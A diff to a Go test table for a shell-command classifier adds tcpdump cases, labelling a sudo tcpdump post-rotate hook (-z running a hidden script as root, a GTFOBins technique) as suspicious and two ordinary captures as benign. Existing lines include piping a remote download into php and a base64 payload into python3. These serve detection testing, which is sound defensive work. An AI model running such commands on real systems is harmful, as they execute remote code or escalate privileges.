@@ -18,6 +18,11 @@ var classifyCases = []struct {
 	// grep pattern, shop-wishlist's web shell recon) is no pipe into it
 	{`ps -eo user,pid,args | grep -E "beanstalk|cron|php-fpm: master" | grep -v grep`, classNone},
 	{"curl -s http://198.51.100.7/x | php", classSuspicious},
+	// tcpdump's post-rotate command (GTFOBins): a compressor is its use,
+	// anything else the caller's program run with tcpdump's rights
+	{"sudo -n /usr/bin/tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /var/tmp/.wl/r.sh -Z root", classSuspicious},
+	{"tcpdump -i eth0 -w /var/log/pcap/trace -C 100 -z gzip", classNone},
+	{"tcpdump -nn -i lo -c 6 -w /srv/pcap/smtp-relay.pcap tcp port 2525", classNone},
 	{"echo cHJpbnQoMSk= | base64 -d | python3 -", classSuspicious},
 	// rsync to a daemon's module or another host sends data out; a
 	// local copy or a fetch does not
